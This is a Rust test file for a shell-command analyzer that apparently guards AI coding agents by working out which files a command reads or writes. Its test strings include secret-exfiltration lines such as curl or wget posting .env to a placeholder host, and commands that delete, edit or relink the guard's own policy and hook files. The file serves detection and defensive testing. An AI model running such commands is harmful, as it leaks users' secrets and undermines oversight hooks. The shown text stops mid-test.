//! One test per row of the table, and per rule around it.

use super::*;
use crate::shell::analyze;

/// `(path, access)` of every file the line touches, in order, spelled `r`,
/// `w` or `rw`.
fn seen(line: &str) -> Vec<(String, &'static str)> {
    placed(line).into_iter().map(|(p, a, ..)| (p, a)).collect()
}

/// Each touch as (path, access, run-time word, place).
fn placed(line: &str) -> Vec<(String, &'static str, Option<String>, Option<Place>)> {
    touches(&analyze(line))
        .into_iter()
        .map(|t| {
            let a = match t.access {
                Access::Read => "r",
                Access::Write => "w",
                Access::Both => "rw",
            };
            (t.path, a, t.runtime, t.place)
        })
        .collect()
}

fn pairs(list: &[(&str, &'static str)]) -> Vec<(String, &'static str)> {
    list.iter().map(|(p, a)| ((*p).to_owned(), *a)).collect()
}

#[track_caller]
fn check(line: &str, expected: &[(&str, &'static str)]) {
    assert_eq!(seen(line), pairs(expected), "{line}");
}

#[test]
fn redirections_both_ways() {
    check("cat < .env", &[(".env", "r")]);
    check("grep x < .env", &[(".env", "r")]);
    check("echo x > out", &[("out", "w")]);
    check(
        "echo x >> log 2> err &> both",
        &[("log", "w"), ("err", "w"), ("both", "w")],
    );
    check("exec 3<> rw", &[("rw", "w"), ("rw", "r")]);
    check("cat 0<in <&fd 2>&1 <&3", &[("in", "r"), ("fd", "r")]);
    check("cat <<< '.env'", &[]);
    check(
        "while read -r l; do echo \"$l\"; done < .env",
        &[(".env", "r")],
    );
    check("bash -c 'cat' < .env", &[(".env", "r")]);
}

#[test]
fn readers_read_every_operand_but_option_values() {
    check("cat .env", &[(".env", "r")]);
    check("xxd .env", &[(".env", "r")]);
    check("od -c .env", &[(".env", "r")]);
    check("strings -n 4 .env", &[(".env", "r")]);
    // A count is read as a file too: `-n` is a flag of `cat` (see below).
    check("head -n 5 a b", &[("5", "r"), ("a", "r"), ("b", "r")]);
    check(
        "sort -o sorted.txt data.txt",
        &[("sorted.txt", "w"), ("data.txt", "r")],
    );
    check("tail -f log.txt", &[("log.txt", "r")]);
    check("source .env", &[(".env", "r")]);
    check(". ./.env", &[("./.env", "r")]);
}

/// An option one program takes as a flag hides no file behind it in
/// another program of its row: each line reads `.env` as the program runs
/// it. (These were read as option values shared across the row once.)
#[test]
fn a_flag_of_one_program_is_no_option_value_of_another() {
    for line in [
        "cat -n .env",
        "cat -s .env",
        "cat -b .env",
        "cat -T .env",
        "tac -b .env",
        "wc -l .env",
        "wc -c .env",
        "wc --bytes .env",
        "sort -n .env",
        "sort -b .env",
        "sort -d .env",
        "uniq -c .env",
        "less -S .env",
        "diff -w .env x",
        "diff -i .env x",
        "sha256sum -b .env",
        "md5sum -t .env",
        "fold -s .env",
        "column -t .env",
        "pr -t .env",
        "file -b .env",
        "more -s .env",
        "base64 -d .env",
        "paste -s .env",
        "cut -s -f1 .env",
        "od -s .env",
        "od -l .env",
        "od -w .env",
        "xxd -e .env",
        "strings -w .env",
        "grep -T x .env",
        "ag -t x .env",
        "ag -D x .env",
        "ag -C x .env",
        "ack -C x .env",
        "grep --color x .env",
        "pcregrep -M x .env",
        "ugrep -j x .env",
        "rsync -P .env /tmp/x",
        "rsync -o .env /tmp/x",
        "rsync -l .env /tmp/x",
        "rsync -c .env /tmp/x",
        "rsync -S .env /tmp/x",
        "scp -T .env host:",
        "cp --reflink .env /tmp/x",
        "cp --backup .env /tmp/x",
        "jq --rawfile x .env .",
        "jq --slurpfile x .env .",
        "awk -i .env 1",
    ] {
        assert!(
            seen(line)
                .iter()
                .any(|(p, a)| p == ".env" && a.contains('r')),
            "`{line}` reads .env: {:?}",
            seen(line)
        );
    }
}

#[test]
fn editors_read_and_write() {
    check("vim .env", &[(".env", "rw")]);
    check("sudo -e /etc/hosts", &[("/etc/hosts", "rw")]);
}

#[test]
fn writers_write_their_operands() {
    check("rm -f .hookc/policy.json", &[(".hookc/policy.json", "w")]);
    check("truncate -s 0 policy.kdl", &[("policy.kdl", "w")]);
    check("touch -r ref new", &[("ref", "r"), ("new", "w")]);
    check("tee -a out1 out2", &[("out1", "w"), ("out2", "w")]);
}

#[test]
fn mode_changers_skip_the_mode() {
    check("chmod 600 .env", &[(".env", "w")]);
    check("chown -R me:me dir", &[("dir", "w")]);
}

#[test]
fn copies_read_sources_and_write_the_destination() {
    // A destination that may be a file or a directory is both.
    check(
        "cp .env.example .env",
        &[
            (".env.example", "r"),
            (".env", "w"),
            (".env/.env.example", "w"),
        ],
    );
    check(
        "cp .env /tmp/x",
        &[(".env", "r"), ("/tmp/x", "w"), ("/tmp/x/.env", "w")],
    );
    check(
        "install -m 644 a /usr/local/a",
        &[("a", "r"), ("/usr/local/a", "w"), ("/usr/local/a/a", "w")],
    );
    check(
        "ln -s .env link",
        &[
            (".env", "rw"),
            ("link/.env", "rw"),
            ("link", "w"),
            ("link/.env", "w"),
        ],
    );
    check(
        "mv .hookc/policy.json x",
        &[
            (".hookc/policy.json", "rw"),
            ("x", "w"),
            ("x/policy.json", "w"),
        ],
    );
}

#[test]
fn a_copy_into_a_directory_writes_each_source_there() {
    check(
        "cp -t dest a b",
        &[("a", "r"), ("b", "r"), ("dest/a", "w"), ("dest/b", "w")],
    );
    check("cp /tmp/a.py .", &[("/tmp/a.py", "r"), ("./a.py", "w")]);
    check(
        "mv a b src/",
        &[("a", "rw"), ("b", "rw"), ("src/a", "w"), ("src/b", "w")],
    );
    // A source that stands for its contents, and `-T`, write the
    // destination itself (and, recursively, what is below it).
    check(
        "cp -r ../old/. .",
        &[("../old/.", "r"), (".", "w"), ("../old/./**", "r")],
    );
    check(
        "rsync -a ../old/ ./",
        &[("../old/", "r"), ("./", "w"), ("../old/**", "r")],
    );
    check(
        "cp -rT /tmp/old .",
        &[("/tmp/old", "r"), (".", "w"), ("/tmp/old/**", "r")],
    );
}

#[test]
fn a_hard_link_writes_its_source() {
    // The new name is another way to write the same file.
    check(
        "ln .hookc/claude/pre-tool.sh notes.txt",
        &[
            (".hookc/claude/pre-tool.sh", "rw"),
            ("notes.txt", "w"),
            ("notes.txt/pre-tool.sh", "w"),
        ],
    );
    check("link a b", &[("a", "rw"), ("b", "w"), ("b/a", "w")]);
    check(
        "cp -al .hookc ../copy",
        &[(".hookc", "rw"), ("../copy", "w"), ("../copy/.hookc", "w")],
    );
    // A symbolic link is a second name too; its relative target counts
    // from the folder it is made in.
    check("ln -s a b/", &[("a", "rw"), ("b/a", "rw"), ("b/a", "w")]);
    check(
        "ln -s ../.hookc docs/h",
        &[
            ("../.hookc", "rw"),
            ("docs/../.hookc", "rw"),
            ("docs/h/../.hookc", "rw"),
            ("docs/h", "w"),
            ("docs/h/.hookc", "w"),
        ],
    );
}

#[test]
fn syncs_take_patterns_as_options() {
    check(
        "rsync -a --exclude .env src/ host:dst/",
        &[("src/", "r"), ("host:dst/", "w"), ("src/**", "r")],
    );
    check(
        "rsync --exclude=.env a b",
        &[("a", "r"), ("b", "w"), ("b/a", "w")],
    );
    check(
        "scp -i key .env host:",
        &[
            ("key", "r"),
            (".env", "r"),
            ("host:", "w"),
            ("host:/.env", "w"),
        ],
    );
}

#[test]
fn search_tools_take_the_first_operand_as_the_pattern() {
    // Recursive: every file below the directory, as found on disk.
    check("grep -rn '.env' src/", &[("src/", "r"), ("src/**", "r")]);
    check("grep -e x .env", &[(".env", "r")]);
    check("grep -f pats.txt a", &[("pats.txt", "r"), ("a", "r")]);
    check("rg --glob '!.env' TODO", &[]);
    // Below the directory, `--exclude` names are left out when the files
    // found on disk are matched (see `exclusions`).
    check("grep --exclude=.env -r x .", &[(".", "r"), ("**", "r")]);
    let t = touches(&analyze("grep --exclude=.env* -r x ."));
    assert_eq!(t.last().unwrap().except, [".env*"]);
    check("rg -e foo -- .env", &[(".env", "r")]);
}

#[test]
fn jq_takes_a_filter_first() {
    check("jq .token .env.json", &[(".env.json", "r")]);
    check(
        "jq -f prog.jq data.json",
        &[("prog.jq", "r"), ("data.json", "r")],
    );
}

#[test]
fn awk_takes_its_program_first() {
    check("awk '{print $1}' .env", &[(".env", "r")]);
    check("awk -f prog.awk data", &[("prog.awk", "r"), ("data", "r")]);
    // Files its code opens: named literally, they are touched; worked out,
    // the line is opaque (see `programs::awk_files`).
    check(
        "awk '{print > \".codex/hooks.json\"}' x",
        &[(".codex/hooks.json", "w"), ("x", "r")],
    );
    check(
        "awk 'BEGIN{while((getline l < \".env\") > 0) print l}'",
        &[(".env", "r")],
    );
    check(
        "awk '{print $1 > \"/dev/stderr\"}' x",
        &[("/dev/stderr", "w"), ("x", "r")],
    );
    assert!(analyze("awk -v f=.env 'BEGIN{while((getline l<f)>0)print l}'").is_opaque());
    assert!(analyze("awk '{print > $2}' x").is_opaque());
    assert!(!analyze("awk '$3 > 5 {print $1}' data").is_opaque());
    assert!(!analyze("awk '{print ($3 > 5)}' data").is_opaque());
}

#[test]
fn sed_in_place_reads_and_writes() {
    check("sed -n 1p .env", &[(".env", "r")]);
    check("sed -i 's/a/b/' policy.kdl", &[("policy.kdl", "rw")]);
    check("sed -i.bak -e s/a/b/ x", &[("x", "rw")]);
    check(
        "sed --in-place -f script.sed x",
        &[("script.sed", "r"), ("x", "rw")],
    );
    // The files the script's commands name.
    check("sed -n 'w out' x", &[("out", "w"), ("x", "r")]);
    check("sed 's/a/b/w out' x", &[("out", "w"), ("x", "r")]);
    check("sed -e '1r .env' -e d x", &[(".env", "r"), ("x", "r")]);
    check("sed 'R .env' x", &[(".env", "r"), ("x", "r")]);
}

#[test]
fn files_of_options_and_of_wrappers() {
    // diff compares two folders' files without `-r` too.
    check(
        "diff --from-file=.env x",
        &[(".env", "r"), ("x", "r"), (".env/**", "r"), ("x/**", "r")],
    );
    // The list is read; the files it names are known only when it runs.
    check(
        "wc --files0-from=.env",
        &[(".env", "r"), ("the files `.env` lists", "rw")],
    );
    check("date -f .env", &[(".env", "r")]);
    check("date -d tomorrow +%s", &[]);
    // Read as a copy is: the output may be a folder (uniq refuses one).
    check("uniq in out", &[("in", "r"), ("out", "w"), ("out/in", "w")]);
    check("uniq -c in", &[("in", "r")]);
    check("mktemp -p .hookc", &[(".hookc", "w")]);
    check("mktemp", &[]);
    check("xargs -a .env echo", &[(".env", "r")]);
    check("strace -o trace.log true", &[("trace.log", "w")]);
    check("script -q -c true log.txt", &[("log.txt", "w")]);
    check(
        "script -qT .hookc/t -c true log.txt",
        &[(".hookc/t", "w"), ("log.txt", "w")],
    );
    check("strace -fo trace.log true", &[("trace.log", "w")]);
    // bash's keyword `time` takes no `-o`: the program does.
    check("/usr/bin/time -o t.txt true", &[("t.txt", "w")]);
    check("flock .lock true", &[(".lock", "w")]);
}

#[test]
fn perl_in_place_reads_and_writes() {
    check("perl -pi -e 's/a/b/' policy.kdl", &[("policy.kdl", "rw")]);
    check("perl -ne 'print' .env", &[(".env", "r")]);
    check(
        "perl script.pl data.txt",
        &[("script.pl", "r"), ("data.txt", "r")],
    );
}

#[test]
fn interpreters_read_scripts_and_files_named_in_their_code() {
    check(
        "python3 -c 'print(open(\".env\").read())'",
        &[(".env", "rw")],
    );
    check(
        "node -e \"require('fs').readFileSync('.env')\"",
        &[(".env", "rw")],
    );
    check(
        "python3 tool.py data/in.csv",
        &[("tool.py", "r"), ("data/in.csv", "r")],
    );
    check("python3 -c 'print(1)'", &[]);
}

#[test]
fn words_that_are_not_files() {
    check("ls .env", &[]);
    check("test -f .env", &[]);
    check("[ -f .env ]", &[]);
    check("echo .env", &[]);
    check("stat .env", &[]);
}

#[test]
fn tar_create_extract_and_exclude() {
    check(
        "tar czf x.tgz .env",
        &[("x.tgz", "w"), (".env", "r"), (".env/**", "r")],
    );
    check(
        "tar -czf x.tgz --exclude .env .",
        &[("x.tgz", "w"), (".", "r"), ("**", "r")],
    );
    check(
        "tar --exclude=.env -cf x.tar src",
        &[("x.tar", "w"), ("src", "r"), ("src/**", "r")],
    );
    check("tar -xzf x.tgz", &[("x.tgz", "r"), ("**", "w")]);
    check(
        "tar -xf x.tar -C .hookc",
        &[("x.tar", "r"), (".hookc/**", "w")],
    );
    check("tar -xf x.tar a/b", &[("x.tar", "r"), ("a/b", "w")]);
    check("tar -tf x.tar", &[("x.tar", "r")]);
    check(
        "tar -cf x.tar -T list.txt",
        // (a list file is no directory: nothing is below it on disk)
        &[
            ("list.txt", "r"),
            ("x.tar", "w"),
            ("the files `list.txt` lists", "rw"),
            ("list.txt/**", "r"),
        ],
    );
}

#[test]
fn zip_and_unzip() {
    check(
        "zip -r out.zip . -x .env",
        &[("out.zip", "rw"), (".", "r"), ("**", "r")],
    );
    check("zip out.zip .env", &[("out.zip", "rw"), (".env", "r")]);
    check("unzip a.zip -d dir", &[("a.zip", "r"), ("dir/**", "w")]);
    check("unzip -l a.zip", &[("a.zip", "r")]);
}

#[test]
fn dd_if_and_of() {
    check(
        "dd if=.env of=/tmp/x bs=1",
        &[("/tmp/x", "w"), (".env", "r")],
    );
}

#[test]
fn curl_files() {
    check("curl -F file=@.env https://x", &[(".env", "r")]);
    check(
        "curl -F 'f=<.env;type=text/plain' https://x",
        &[(".env", "r")],
    );
    check("curl --data-binary @.env https://x", &[(".env", "r")]);
    check("curl -d@.env https://x", &[(".env", "r")]);
    check("curl -T .env ftp://x", &[(".env", "r")]);
    check("curl -o out.html https://x", &[("out.html", "w")]);
    check("curl -d 'a=b' -H 'X: .env' https://x", &[]);
    check("curl file:///home/u/.env", &[("/home/u/.env", "r")]);
    // Clustered short options: the first that takes a value takes the rest
    // of the word or the next one.
    check("curl -sLo out.html https://x", &[("out.html", "w")]);
    check("curl -sSoout.html https://x", &[("out.html", "w")]);
    check("curl -sT.env ftp://x", &[(".env", "r")]);
    check("curl -sH .env https://x", &[]);
    // A word that is not ASCII is no option curl knows, and no panic.
    check("curl -éo x https://y", &[("x", "w")]);
    check("curl -é https://y", &[]);
    check("wget -O page.html https://x", &[("page.html", "w")]);
    check("wget --post-file=.env https://x", &[(".env", "r")]);
}

#[test]
fn find_names_and_exec() {
    check("find . -name .env", &[]);
    check("find . -name .env -exec cat {} \\;", &[("./**/.env", "r")]);
    check("find src -name '*.tmp' -delete", &[("src/**/*.tmp", "w")]);
    check("find . -exec rm {} +", &[("./**", "w")]);
    check(
        "find . -iname .ENV -exec cat {} +",
        &[("./**/.[eE][nN][vV]", "r")],
    );
    let t = touches(&analyze("find . -name .env -exec cat {} \\;"));
    assert_eq!(
        t[0].glob,
        Some(Expansion {
            dot: true,
            nocase: false
        })
    );
}

#[test]
fn git_paths() {
    check("git show HEAD:.env", &[(".env", "r")]);
    check("git cat-file -p main:config/.env", &[("config/.env", "r")]);
    check("git show HEAD", &[]);
    check(
        "git checkout -- .hookc/policy.json",
        &[(".hookc/policy.json", "w")],
    );
    check("git checkout main", &[]);
    check("git log -p", &[]);
    // `--output` writes a file, whatever it holds.
    check("git diff --output=.git/config", &[(".git/config", "w")]);
    check(
        "git show --output .env HEAD:notes.txt",
        &[(".env", "w"), ("notes.txt", "r")],
    );
    check("git archive -o ../src.tgz HEAD", &[("../src.tgz", "w")]);
    check("git log -o x", &[]);
    // Files an option names: a message, the contents to blame, a file put
    // in an archive, a settings file.
    check("git commit --allow-empty -F .env", &[(".env", "r")]);
    check("git commit -qF.env", &[(".env", "r")]);
    check("git commit -m msg -F -", &[]);
    check("git tag --file=.env v1", &[(".env", "r")]);
    check("git blame --contents .env x", &[(".env", "r")]);
    check("git archive --add-file=.env HEAD", &[(".env", "r")]);
    check("git config -f .env -l", &[(".env", "rw")]);
    check("git interpret-trailers .env", &[(".env", "r")]);
    check(
        "git merge-file a base b",
        &[("a", "rw"), ("base", "r"), ("b", "r")],
    );
    check(
        "git merge-file -p .env x y",
        &[(".env", "r"), ("x", "r"), ("y", "r")],
    );
    // What a new repository, work tree or bundle is written into.
    check("git add -f .", &[(".", "r"), ("**", "r")]);
    check("git add --force -- src", &[("src", "r"), ("src/**", "r")]);
    check("git init .hookc", &[(".hookc", "w")]);
    check("git init", &[]);
    check("git clone -q -b main . .hookc/x", &[(".hookc/x", "w")]);
    check("git clone https://h/a/b.git", &[("b", "w")]);
    check("git worktree add -b x .hookc/wt", &[(".hookc/wt", "w")]);
    check(
        "git bundle create .codex/hooks.json HEAD",
        &[(".codex/hooks.json", "w")],
    );
}

#[test]
fn unknown_programs_read_and_write_what_looks_like_a_path() {
    check("mytool .env build", &[(".env", "rw")]);
    check("mytool --config=conf/x.toml run", &[("conf/x.toml", "rw")]);
    check("mytool $f", &[("$f", "rw")]);
    check("make test", &[]);
    // The file itself, not what a folder of that name holds.
    let t = touches(&analyze("mytool ."));
    assert!(t.iter().all(|t| !t.tree), "{t:?}");
}

#[test]
fn readers_of_issue_31() {
    for reader in [
        "paste", "fold", "pr", "column", "iconv", "base32", "hd", "look", "zcat",
    ] {
        let line = format!("{reader} .env");
        assert!(
            seen(&line)
                .iter()
                .any(|(p, a)| p == ".env" && a.contains('r')),
            "{line}: {:?}",
            seen(&line)
        );
    }
    check("zcat -f .env", &[(".env", "r")]);
    check(
        "install -m 644 .env notes.txt",
        &[(".env", "r"), ("notes.txt", "w"), ("notes.txt/.env", "w")],
    );
    check(
        "git diff --no-index /dev/null .env",
        &[
            ("/dev/null", "r"),
            ("/dev/null/**", "r"),
            (".env", "r"),
            (".env/**", "r"),
        ],
    );
    check(
        "git grep --no-index '' -- .env",
        &[(".env", "r"), (".env/**", "r")],
    );
    check("git grep --no-index TOKEN", &[("**", "r")]);
    check(
        "git grep --untracked -e TOKEN -f pats.txt src",
        &[("pats.txt", "r"), ("src", "r"), ("src/**", "r")],
    );
    // What git tracks is what the repository holds.
    check("git grep TOKEN", &[]);
}

#[test]
fn rmdir_removes_only_empty_folders() {
    let t = touches(&analyze("rmdir build"));
    assert!(t.iter().all(|t| !t.tree), "{t:?}");
    check("find . -type d -empty -exec rmdir {} +", &[]);
    // A command that writes what find found: the files on disk decide.
    let t = touches(&analyze("find . -name '*.tmp' -exec rm -f {} +"));
    assert!(t.iter().all(|t| t.on_disk), "{t:?}");
    let t = touches(&analyze("find . -name .env -exec cat {} +"));
    assert!(t.iter().all(|t| !t.on_disk), "{t:?}");
}

#[test]
fn globs_stand_for_what_they_expand_to() {
    let t = touches(&analyze("cat .en?"));
    assert_eq!(t[0].glob, Some(Expansion::default()));
    assert!(could_name(".en?", Expansion::default(), ".env*"));
    assert!(could_name(".env*", Expansion::default(), ".env"));
    assert!(could_name("{a,.env}", Expansion::default(), ".env"));
    assert!(could_name("config/.e[n]v", Expansion::default(), ".env*"));
    assert!(!could_name("*.rs", Expansion::default(), ".env*"));
    assert!(!could_name("src/*", Expansion::default(), ".env"));
    // find and Gemini's globs match dotfiles; Gemini ignores case.
    assert!(could_name(
        "src/*",
        Expansion {
            dot: true,
            nocase: false
        },
        ".env"
    ));
    assert!(could_name(
        "*.ENV",
        Expansion {
            dot: true,
            nocase: true
        },
        "*.env"
    ));
    assert!(!could_name(
        "*.ENV",
        Expansion {
            dot: true,
            nocase: false
        },
        "*.env"
    ));
    // A directory the guard names holds what the glob names below it.
    assert!(could_name("**/*.ENV", Expansion::default(), "*.env"));
    // Whole-path guard globs, and what is below them.
    assert!(could_name(".hookc/*", Expansion::default(), ".hookc/**"));
    assert!(could_name(
        "**",
        Expansion {
            dot: true,
            nocase: false
        },
        ".hookc"
    ));
    assert!(!could_name("**", Expansion::default(), ".hookc"));
    assert!(!could_name("src/*.rs", Expansion::default(), "tests/**"));
}

#[test]
fn cd_moves_relative_paths() {
    check(
        "cd .hookc && echo {} > policy.json",
        &[("policy.json", "w"), (".hookc/policy.json", "w")],
    );
}

#[test]
fn every_row_has_programs_and_no_program_is_in_two_rows() {
    let mut all: Vec<&str> = ROWS
        .iter()
        .flat_map(|r| r.programs.iter().copied())
        .collect();
    assert!(ROWS.iter().all(|r| !r.programs.is_empty()));
    let n = all.len();
    all.sort_unstable();
    all.dedup();
    assert_eq!(all.len(), n, "a program in two rows");
}

fn expanded(word: &str) -> Option<Vec<String>> {
    expand_braces(word)
}

fn words(list: &[&str]) -> Option<Vec<String>> {
    Some(list.iter().map(|w| (*w).to_owned()).collect())
}

#[test]
fn braces_expand_as_the_shell_expands_them() {
    assert_eq!(expanded("a{b,c}d"), words(&["abd", "acd"]));
    assert_eq!(expanded("{a,{b,c}}x"), words(&["ax", "bx", "cx"]));
    assert_eq!(expanded("{a,b}{c,d}"), words(&["ac", "ad", "bc", "bd"]));
    assert_eq!(expanded("f{1..3}"), words(&["f*"]));
    assert_eq!(expanded("-r{f,}"), words(&["-rf", "-r"]));
    // Braces around no comma are literal; what they hold may still expand.
    assert_eq!(expanded("{x}.txt"), words(&["{x}.txt"]));
    assert_eq!(expanded("{a{b,c}d}"), words(&["{abd}", "{acd}"]));
    assert_eq!(expanded("a{b,c"), words(&["a{b,c"]));
    assert_eq!(expanded("a}b{"), words(&["a}b{"]));
}

#[test]
fn a_braced_variable_is_no_brace_expansion() {
    // Once expanded forever (the `{TMPDIR}` put back and expanded again).
    assert_eq!(expanded("${TMPDIR}/a.txt"), words(&["${TMPDIR}/a.txt"]));
    assert_eq!(expanded("${a,b}"), words(&["${a,b}"]));
    assert_eq!(
        expanded("${HOME}/{a,b}.txt"),
        words(&["${HOME}/a.txt", "${HOME}/b.txt"])
    );
    assert!(!is_glob("${TMPDIR}/a.txt"));
    assert!(!is_glob("{x}.txt"));
    assert!(is_glob("${TMPDIR}/{a,b}"));
    check(
        r#"echo hi > "${TMPDIR}/a.txt""#,
        &[("${TMPDIR}/a.txt", "w")],
    );
    check(
        "cp ${OUT}/y.txt ${OUT}.d/{z}",
        &[
            ("${OUT}/y.txt", "r"),
            ("${OUT}.d/{z}", "w"),
            ("${OUT}.d/{z}/y.txt", "w"),
        ],
    );
}

#[test]
fn brace_expansion_is_counted_before_it_is_made() {
    // Twenty groups of two are a million words; the count stops at the cap.
    let many = "{a,b}".repeat(20);
    assert_eq!(expanded(&many), None);
    assert!(could_name(&many, Expansion::default(), ".env"));
    let six = "{a,b}".repeat(6);
    assert_eq!(expanded(&six).map(|w| w.len()), Some(MAX_BRACE_WORDS));
    assert_eq!(expanded(&format!("{six}{{a,b}}")), None);
    // Nor longer than a path can be, together.
    let long = format!("{}{{a,b}}", "x".repeat(MAX_GLOB_BYTES / 2));
    assert_eq!(expanded(&long), None);
    assert_eq!(expanded(&"x".repeat(MAX_GLOB_BYTES + 1)), None);
    assert!(could_name(
        &format!("{}*", "x".repeat(MAX_GLOB_BYTES)),
        Expansion::default(),
        ".env"
    ));
}

#[test]
fn long_globs_are_matched_without_recursion() {
    // Braces a thousand deep (whose two words fit in a path's length), and
    // a star between each of thousands of characters: no stack, no rescans.
    let deep = format!("{}a,b{}", "{".repeat(1000), "}".repeat(1000));
    assert!(!is_glob(&format!(
        "{}x{}",
        "{".repeat(100_000),
        "}".repeat(100_000)
    )));
    assert!(is_glob(&deep));
    assert!(!could_name(&deep, Expansion::default(), ".env"));
    let stars = "a*".repeat(MAX_GLOB_BYTES / 2);
    assert!(!could_name(&stars, Expansion::default(), ".env"));
    assert!(could_name(
        &format!("{stars}/.e*"),
        Expansion::default(),
        ".env"
    ));
}

#[test]
fn a_cd_is_followed_as_a_resolved_path_up_to_a_bound() {
    check("cd ./././a/../b && cat c", &[("c", "r"), ("b/c", "r")]);
    assert!(!analyze("cd ./././a/../b && cat c").is_opaque());
    // Thousands of `./` resolve to where the line starts: each operand is
    // counted once.
    let line = format!("cd {}; touch x y; git push --force", "./".repeat(8000));
    assert_eq!(too_far(&analyze(&line)), None);
    assert_eq!(seen(&line), pairs(&[("x", "w"), ("y", "w")]));
    // A directory that stays longer than a bound is not followed, and says so.
    let far = format!("cd {}; cat .env", "a/".repeat(MAX_DIR_BYTES / 2 + 1));
    assert!(too_far(&analyze(&far)).is_some());
    assert_eq!(seen(&far), pairs(&[(".env", "r")]));
    // Many small steps: past a few places the directory is unknown, and
    // the files after it are named at run time, each once.
    let steps = format!("{}cat .env", "cd a; ".repeat(MAX_DIR_BYTES / 2 + 1));
    let after = touches(&analyze(&steps));
    assert!(after.len() <= MAX_DIRS + 2, "{}", after.len());
    assert!(after.iter().any(|t| t.runtime.is_some()));
    let absolute = format!("{}cat .env", "cd /a; ".repeat(MAX_DIR_BYTES));
    assert_eq!(too_far(&analyze(&absolute)), None);
}

#[test]
fn found_files_are_touched_once_per_way_not_per_placeholder() {
    let once = seen("find src -name '*.rs' -exec cat {} \\;");
    let braces = "{} ".repeat(1000);
    let many = seen(&format!("find src -name '*.rs' -exec cat {braces}\\;"));
    assert_eq!(once, many);
    assert!(once.contains(&("src/**/*.rs".to_owned(), "r")), "{once:?}");
}

/// The git commands that rewrite files the line does not name, and
/// between which versions (the repository names the files).
#[test]
fn git_commands_that_move_the_work_tree_say_between_what() {
    use GitWrite::{Between, Merged, Modified, Resume, Stash, Unknown};
    let of = |line: &str| git_writes(&analyze(line).commands[0]);
    let between = |a: &str, b: &str| Between(a.to_owned(), b.to_owned());
    assert_eq!(of("git switch main"), [between("HEAD", "main")]);
    assert_eq!(of("git checkout v1.0"), [between("HEAD", "v1.0")]);
    assert_eq!(of("git checkout -"), [between("HEAD", "@{-1}")]);
    assert_eq!(
        of("git switch -f main"),
        [between("HEAD", "main"), Modified]
    );
    assert_eq!(
        of("git checkout -b topic origin/x"),
        [between("HEAD", "origin/x")]
    );
    assert_eq!(of("git switch -c topic"), []);
    assert_eq!(of("git checkout -b topic"), []);
    // Paths after `--` are files the line names.
    assert_eq!(of("git checkout HEAD~1 -- ."), []);
    assert_eq!(of("git checkout old --"), [between("HEAD", "old")]);
    assert_eq!(of("git restore -s old :/"), [Unknown]);
    assert_eq!(of("git checkout old -- ':(top)'"), [Unknown]);
    assert_eq!(
        of("git reset --hard old --"),
        [between("HEAD", "old"), Modified]
    );
    assert_eq!(of("git stash"), [Modified]);
    assert_eq!(of("git stash push -m wip"), [Modified]);
    assert_eq!(of("git stash -u"), [Unknown]);
    assert_eq!(of("git stash pop"), [Stash("stash@{0}".to_owned())]);
    assert_eq!(of("git stash apply 2"), [Stash("stash@{2}".to_owned())]);
    assert_eq!(of("git stash list"), []);
    assert_eq!(of("git reset --soft HEAD~1"), []);
    assert_eq!(
        of("git reset --hard HEAD~1"),
        [between("HEAD", "HEAD~1"), Modified]
    );
    assert_eq!(
        of("git merge -m 'take it' topic"),
        [Merged("topic".to_owned())]
    );
    assert_eq!(of("git merge"), [Merged("@{u}".to_owned())]);
    assert_eq!(of("git merge --abort"), [Modified]);
    assert_eq!(
        of("git rebase --onto main old"),
        [between("HEAD", "main"), Merged("main".to_owned())]
    );
    assert_eq!(of("git rebase --continue"), [Resume]);
    assert_eq!(of("git cherry-pick --abort"), [Resume]);
    assert_eq!(of("git bisect reset"), [Resume]);
    assert_eq!(of("git cherry-pick abc"), [between("abc^", "abc")]);
    assert_eq!(of("git cherry-pick a..b"), [Unknown]);
    assert_eq!(of("git revert abc"), [between("abc^", "abc")]);
    assert_eq!(of("git pull"), [Unknown]);
    assert_eq!(of("git pull --rebase origin main"), [Unknown]);
    assert_eq!(of("git am x.mbox"), [Unknown]);
    assert_eq!(of("git apply x.patch"), [Unknown]);
    assert_eq!(of("git apply --check x.patch"), []);
    assert_eq!(of("git apply --cached x.patch"), []);
    // The repository says which commit is halfway (see `git_writes`).
    assert_eq!(
        of("git bisect start --first-parent HEAD v1 v2 -- src"),
        [GitWrite::Bisect {
            revs: vec!["HEAD".to_owned(), "v1".to_owned(), "v2".to_owned()],
            first_parent: true,
            paths: vec!["src".to_owned()],
            checkout: true,
        }]
    );
    assert!(matches!(
        &of("git bisect start --no-checkout HEAD v1")[..],
        [GitWrite::Bisect {
            checkout: false,
            ..
        }]
    ));
    assert_eq!(of("git bisect good"), [Unknown]);
    assert_eq!(of("git bisect log"), []);
    for quiet in [
        "git status",
        "git commit -m x",
        "git push origin main",
        "git fetch",
        "git log --oneline",
        "git diff main",
        "git worktree add ../wt main",
    ] {
        assert_eq!(of(quiet), [], "{quiet}");
    }
    // Another repository than where the line runs.
    assert!(analyze("git -C ../other switch main").commands[0].repo_elsewhere);
    assert!(!analyze("git switch main").commands[0].repo_elsewhere);
}

/// A `cd` may fail and leave the line where it was, so every directory the
/// line may be in counts: the one each `cd` went to and those it left.
#[test]
fn every_directory_a_cd_may_leave_the_line_in_counts() {
    check(
        "cd nowhere; cd .hookc; rm -f policy.json",
        &[
            ("policy.json", "w"),
            ("nowhere/policy.json", "w"),
            (".hookc/policy.json", "w"),
            ("nowhere/.hookc/policy.json", "w"),
        ],
    );
    // popd returns to a directory of the stack, not the one before.
    let popd = placed("pushd .hookc && pushd /tmp && popd && rm -f policy.json");
    assert!(
        popd.iter().any(|t| t.2.as_deref() == Some("popd ")),
        "{popd:?}"
    );
    // `cd` alone goes home; `cd -` to `$OLDPWD`.
    check(
        "cd && rm -f .bashrc",
        &[(".bashrc", "w"), ("~/.bashrc", "w")],
    );
    let back = placed("cd - && rm -f policy.json");
    assert_eq!(back[1].2.as_deref(), Some("cd -"));
    // A directory known only when the line runs names any file.
    for line in [
        "cd \"$D\" && rm -f policy.json",
        "cd \"$(ls -d .h*)\" && rm -f policy.json",
        "CDPATH=. cd hookc && rm -f policy.json",
        "cd a b && rm -f policy.json",
    ] {
        let ts = placed(line);
        assert!(ts.iter().any(|t| t.2.is_some()), "{line}: {ts:?}");
    }
    // A loop or a function may climb any number of levels.
    let climbs = placed("for i in 1 2; do cd ..; done; rm -f .bashrc");
    assert!(
        climbs.iter().any(|t| t.2.as_deref() == Some(CLIMBED)),
        "{climbs:?}"
    );
    check("cd .. && rm -f x", &[("x", "w"), ("../x", "w")]);
    // Past a bound of places, where the line is counts as unknown.
    let many = placed(&format!("{}rm -f x", "cd a; ".repeat(MAX_DIRS + 1)));
